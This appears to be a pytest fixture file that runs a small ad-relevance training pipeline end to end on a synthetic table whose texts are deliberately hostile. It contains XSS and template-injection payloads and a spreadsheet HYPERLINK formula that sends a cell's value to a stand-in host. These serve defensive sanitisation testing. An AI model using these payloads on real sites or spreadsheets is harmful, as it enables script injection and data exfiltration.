"""A small finished run, made by the stages themselves from a table whose every text is hostile."""

import csv
import json
import shutil
from collections.abc import Iterator
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import pytest

from data.sources.synthetic import SCALE, generate
from pipeline.settings import PipelineConfig, load_preset
from tests.servers import Server

HOSTILE = (
    '<script>alert("x")</script> "><img src=x onerror=alert(1)> </pre></style><svg onload=alert(1)> '
    '<a href="javascript:alert(1)"> {{ 7 * 7 }} <link rel=stylesheet href=http://ads.invalid/x.css>'
)
FORMULA = '=HYPERLINK("http://ads.invalid/?"&A1,"click")'
TINY = [
    "run=tiny", "tracking.enabled=false", "data.source=table", "data.relevant_from=2", "data.shares.train=0.3",
    "data.shares.valid=0.2", "data.shares.test=0.3", "data.shares.pool=0.2", "teacher.model=scratch:tiny",
    "teacher.seed=3", "teacher.warm_start.examples=16", "teacher.warm_start.min_steps=0", "teacher.warm_start.repeats=1",
    "teacher.agpo.steps=2",
    "teacher.agpo.group_size=4", "teacher.agpo.prompts_per_step=2", "teacher.agpo.micro_batch=8",
    "teacher.evaluation.examples=4", "teacher.evaluation.samples=2", "teacher.max_completion_tokens=16",
    "annotate.engine.kind=openai", "annotate.engine.max_model_len=0", "annotate.n=4", "annotate.max_failed_share=1.0",
    "student.base=scratch:tiny", "student.epochs=1", "student.log_every=1", "student.bootstrap_samples=100",
    "student.layers=[1]", "export.max_int8_auc_loss=1.0", "export.max_decisions_changed=1.0",
]  # fmt: skip


def teacher(body: dict[str, Any], choices: Any) -> Any:
    """Answers of a server: hostile reasons, votes that agree more or less; some prompts fail."""
    count, prompt = body.get("n", 1), body["prompt"]
    if isinstance(prompt, str) or len(prompt) < 8:  # the engine asks what the server takes
        return {"choices": [{"index": i, "text": "a", "finish_reason": "stop"} for i in range(count)]}
    number = sum(prompt)
    if number % 11 == 0:
        return 400, {"error": f"refused {number}: {HOSTILE}"}
    grades = [(number + other) % 4 for other in (0, 0, number // 7 % 2, number // 5 % 3)]
    texts = [f"@SUM(1) because {HOSTILE} <answer>{grade}</answer>" for grade in grades[:count]]
    return {"choices": [{"index": i, "text": text, "finish_reason": "stop"} for i, text in enumerate(texts)]}


@pytest.fixture(scope="session")
def teacher_server() -> Iterator[str]:
    """The address of a server of completions."""
    server = Server(teacher, models={"data": [{"id": "teacher", "max_model_len": 1024}]})
    yield server.url
    server.stop()


@pytest.fixture(scope="session")
def finished_run(tmp_path_factory: pytest.TempPathFactory, spark: Any, teacher_server: str) -> PipelineConfig:
    """The settings of a run whose five stages have completed, from a hostile table to the export. Tests copy its folder."""
    from pipeline.stages import STAGES

    root = tmp_path_factory.mktemp("finished")
    columns = ("query", "ad_title", "ad_text", "grade", "rationale")
    with (root / "table.csv").open("w", newline="") as file:
        writer = csv.DictWriter(file, columns, extrasaction="ignore")
        writer.writeheader()
        for row in generate(400, seed=0):
            texts = {"query": f"{row['query']} {HOSTILE}", "ad_title": f"{FORMULA} {row['ad_title']}"}
            writer.writerow(row | texts | {"ad_text": f"{row['ad_text'] or ''} {HOSTILE}"})
    grades = [grade.model_copy(update={"name": f"{grade.name}<b>"}).model_dump() for grade in SCALE.grades]
    more = {
        "runs": root, "weights_cache": root / "weights", "data.path": root / "table.csv", "data.grades": json.dumps(grades),
        "data.columns": json.dumps({name: name for name in columns}), "annotate.engine.urls": json.dumps([teacher_server]),
    }  # fmt: skip
    settings = load_preset("sample", [*TINY, *(f"{name}={value}" for name, value in more.items())])
    with pytest.MonkeyPatch.context() as patch:
        # The session of all tests, which a stage must not stop.
        patch.setattr("pipeline.stages.spark_session", lambda config: nullcontext(spark))
        for stage in ("data", "teacher", "annotate", "student", "export"):
            STAGES[stage].run(settings)
    return settings


@pytest.fixture
def run(finished_run: PipelineConfig, tmp_path: Path) -> PipelineConfig:
    """The settings of a copy of the finished run, without its models' weights."""
    settings = finished_run.model_copy(update={"runs": tmp_path})
    shutil.copytree(finished_run.folder, settings.folder, ignore=shutil.ignore_patterns("*.safetensors", "*.onnx"))
    return settings


@pytest.fixture(scope="session")
def hostile() -> str:
    return HOSTILE
